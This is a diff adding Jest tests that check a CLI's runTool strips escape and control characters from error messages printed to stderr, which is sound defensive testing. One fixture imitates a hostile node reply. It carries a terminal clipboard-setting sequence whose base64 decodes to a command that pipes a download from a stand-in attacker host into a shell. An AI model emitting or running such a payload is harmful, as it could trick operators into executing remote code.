@@ -2,6 +2,7 @@
  * What `npm run node` prints from a node (its log, its recorded enode, its RPC answers) cannot drive the operator's
  * terminal: escape sequences and control characters are removed, newlines and tabs kept.
  */
+import { EXIT, runTool, ToolFailure } from '../../cli/cli';
 import { withoutControlSequences } from '../../core/operations/terminalText';
 
 describe('text from a node, printed on the terminal', () => {
@@ -26,5 +27,43 @@ describe('text from a node, printed on the terminal', () => {
     ['C1 controls', 'a\x85b\x9cc', 'abc'],
   ])('removes %s', (_, text, printed) => {
     expect(withoutControlSequences(text)).toBe(printed);
+  });
+});
+
+describe("a tool's failure, printed on the terminal by runTool", () => {
+  /** What runTool writes on stderr, and the exit code it sets, when the tool's main function throws `error`. */
+  async function failureOutput(error: unknown): Promise<{ stderr: string; exitCode: typeof process.exitCode }> {
+    const written: string[] = [];
+    const write = jest.spyOn(process.stderr, 'write').mockImplementation((chunk: string | Uint8Array) => {
+      written.push(typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString('utf8'));
+      return true;
+    });
+    const before = process.exitCode;
+    try {
+      runTool(() => {
+        throw error;
+      });
+      await new Promise((resolve) => setTimeout(resolve, 10));
+      return { stderr: written.join(''), exitCode: process.exitCode };
+    } finally {
+      write.mockRestore();
+      process.exitCode = before;
+    }
+  }
+
+  // As a node could send it: an enode answer or a Job's log line that sets the operator's clipboard.
+  const hostile = 'enode://ab@\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07203.0.113.10:60606 \x1b[2Kgone';
+
+  it('reaches stderr without ESC or BEL, the message itself kept', async () => {
+    const { stderr, exitCode } = await failureOutput(new ToolFailure(`the restored node answers ${hostile}`));
+    expect(stderr).toBe('error: the restored node answers enode://ab@203.0.113.10:60606 gone\n');
+    expect(stderr).not.toMatch(/[\x1b\x07\x9b]/);
+    expect(exitCode).toBe(EXIT.failed);
+  });
+
+  it('filters an unexpected error the same way', async () => {
+    const { stderr } = await failureOutput(new Error(hostile));
+    expect(stderr).toMatch(/^unexpected error: /);
+    expect(stderr).not.toMatch(/[\x1b\x07\x9b]/);
   });
 });
